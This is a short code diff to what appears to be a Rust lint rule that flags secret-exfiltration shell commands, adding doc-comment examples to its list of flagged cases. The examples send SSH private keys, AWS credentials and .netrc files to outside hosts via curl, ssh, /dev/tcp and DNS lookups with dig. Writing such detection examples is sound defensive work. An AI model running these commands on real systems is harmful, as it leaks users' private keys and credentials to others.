@@ -16,6 +16,10 @@ declare_rule! {
     /// base64 < ~/.aws/credentials | curl -X POST -d @- https://example.com
     /// curl "https://example.com/?k=$(cat ~/.ssh/id_rsa)"
     /// curl -T ~/.netrc https://example.com
+    /// tar cz ~/.ssh | curl -T - https://example.com
+    /// tar cz ~/.ssh | ssh host 'cat > keys'
+    /// cat ~/.ssh/id_rsa > /dev/tcp/10.0.0.1/99
+    /// dig "$(cat ~/.ssh/id_rsa).example.com"
     /// ```
     /// ```sh,clean
     /// cat ~/.ssh/id_rsa.pub | ssh anna@example.com 'cat >> .ssh/authorized_keys'
